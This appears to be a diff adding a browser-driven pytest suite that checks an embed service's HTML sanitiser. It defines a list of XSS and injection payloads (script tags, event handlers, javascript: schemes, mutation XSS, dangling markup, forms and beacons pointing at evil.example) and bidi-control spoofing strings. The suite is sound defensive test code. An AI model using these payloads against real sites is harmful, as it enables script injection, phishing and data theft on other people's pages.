@@ -1,0 +1,158 @@
+"""What leaves, seen by a browser: nothing runs, asks, moves, covers, restyles or takes a name."""
+
+import json
+import re
+from collections.abc import Iterator
+from html.parser import HTMLParser
+
+import pytest
+
+from embedsvc.formats import block
+from embedsvc.model import Author, Embed, Finding, Metadata, Player, Provider
+from embedsvc.safe import sanitise
+from tests.corpus import corpus
+from tests.safe.chromium import Chromium, launch
+from tests.safe.fields import blocks, embed
+
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
+
+# One or two of each kind; all of them offend as they stand.
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "handler": '<p onmouseover="alert(1)">words</p>',
+    "picture handler": '<img src="https://evil.example/x" onerror="alert(1)">',
+    "scheme": '<a href="java&#10;script:alert(1)">click</a>',
+    "svg": "<svg onload=alert(1)><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
+    "mathml": '<math><mtext><img src onerror="alert(1)"></mtext></math>',
+    "mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    "object": '<object data="https://evil.example/o"></object>',
+    "form": '<form action="https://evil.example/"><button>Log in</button></form>',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "style sheet": '<link rel="stylesheet" href="https://evil.example/s.css">',
+    "style": "<style>#cms-title { display: none }</style>",
+    "cover": '<p style="position:fixed;inset:0;background:#fff">mine</p>',
+    "class of the page": '<div class="overlay">mine</div>',
+    "name": '<a id="cms-title" name="location">x</a>',
+    "target": '<a href="https://evil.example/" target="_blank" rel="opener">x</a>',
+    "ping": '<a href="https://evil.example/" ping="https://evil.example/p">x</a>',
+    "unclosed": '<table><td></div></div></main></body><p id="cms-foot">mine',
+    "dangling": "<img src='https://evil.example/?",
+    "media": '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
+    "provider": '<blockquote class="tweet"><p lang="en">Words</p></blockquote><script async src="https://platform.example/w.js"></script>',
+}
+
+TURNED = {
+    "override": "\u202emoc.elpmaxe",
+    "embedding": "\u202b\u202b\u202bname",
+    "isolate left open": "name \u2067",
+    "isolate closed twice": "name\u2069\u2069 \u202e",
+    "isolate closed before opened": "\u2069\u202ename\u2067",
+    "paragraph within": "name\u2029\u202e more\u2069",
+    "right to left": "محمد 24",
+}
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Chromium]:
+    with launch() as browser:
+        yield browser
+
+
+def test_the_detector_sees_each_kind(chromium: Chromium) -> None:
+    """Every sample offends where it is put into a page as it stands, so silence means something."""
+    assert HOSTILE.keys() == chromium.offences(HOSTILE).keys()
+    assert chromium.turned("<p>\u202ename <time>January 26, 2021</time></p>", "time") == ["January 26, 2021"]
+
+
+def test_sanitised_markup_does_nothing(chromium: Chromium) -> None:
+    """The same samples, sanitised, leave the page as it was."""
+    assert chromium.offences({name: sanitise(html) for name, html in HOSTILE.items()}) == {}
+
+
+def test_hostile_fields_do_nothing(chromium: Chromium) -> None:
+    """The same samples in every field of a post, a card and a rich block leave the page as it was."""
+    assert chromium.offences({name: blocks(html) for name, html in HOSTILE.items()}) == {}
+
+
+@pytest.mark.parametrize("name", TURNED.values(), ids=TURNED.keys())
+def test_a_name_turns_nothing_but_itself(chromium: Chromium, name: str) -> None:
+    """Bidi controls and right-to-left letters in names leave date and address behind them in order."""
+    html = blocks(name) + "<p class='next'>words, 24 (and) more.</p>"
+    assert chromium.turned(html, "time, .embed-url, .next, #cms-after") == []
+
+
+def test_a_block_asks_for_nothing_but_its_player(chromium: Chromium) -> None:
+    """A post, a card and foreign markup make no request; a video asks for the one frame that we built."""
+    assert chromium.requests(blocks("words")) == []
+    video = Embed(
+        url="https://www.youtube.com/watch?v=jNQXAC9IVRw",
+        finding=Finding(
+            kind="video",
+            method="oembed",
+            provider=Provider(name="YouTube", url=None, key="youtube"),
+            metadata=Metadata(title="Me at the zoo", authors=(Author(name="jawed"),)),
+            player=Player(url="https://www.youtube-nocookie.com/embed/jNQXAC9IVRw"),
+        ),
+        fetched_at=0.0,
+        expires_at=1.0,
+    )
+    assert chromium.requests(block.render(video)) == ["https://www.youtube-nocookie.com/embed/jNQXAC9IVRw"]
+
+
+def test_pictures_are_asked_for_only_where_they_are_wanted(chromium: Chromium) -> None:
+    """With `images=direct` a card shows its picture, otherwise it names it."""
+    card = embed("article", Metadata(title="Title"))
+    assert chromium.requests(block.render(card)) == []
+    assert chromium.requests(block.render(card, images="direct")) == ["https://site.example/1.jpg"]
+
+
+@pytest.mark.corpus
+def test_no_known_payload_does_anything_sanitised(chromium: Chromium) -> None:
+    """All payloads of the recorded corpus, sanitised."""
+    assert chromium.offences({name: sanitise(html) for name, html in _payloads().items()}) == {}
+
+
+@pytest.mark.corpus
+def test_no_known_payload_does_anything_in_a_field(chromium: Chromium) -> None:
+    """All payloads of the recorded corpus, in every field of a post, a card and a rich block."""
+    assert chromium.offences({name: blocks(html) for name, html in _payloads().items()}) == {}
+
+
+@pytest.mark.corpus
+def test_harmless_markup_is_harmless_and_keeps_what_it_says(chromium: Chromium) -> None:
+    """Of harmless provider HTML the words, languages, directions, links and dates stay."""
+    rows = [json.loads(line) for line in corpus("security", "benign.jsonl").read_text("utf-8").splitlines()]
+    assert chromium.offences({row["id"]: blocks(row["html"]) for row in rows}) == {}
+    for row in rows:
+        kept = Kept(sanitise(row["html"]))
+        assert [wanted for wanted in row["must_keep"] if wanted not in kept.attributes] == []
+        assert _squeezed(row["must_keep_text"]) in _squeezed(kept.text)
+
+
+class Kept(HTMLParser):
+    """The attributes and the text of HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.attributes: set[str] = set()
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        del tag
+        self.attributes |= {f'{name}="{value}"' for name, value in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def _payloads() -> dict[str, str]:
+    lines = corpus("security", "xss.jsonl").read_text("utf-8").splitlines()
+    return {row["id"]: row["html"] for row in map(json.loads, lines)}
+
+
+def _squeezed(text: str) -> str:
+    return re.sub("[\\s\u00ad\u200b\u2060\ufeff]+", "", text)
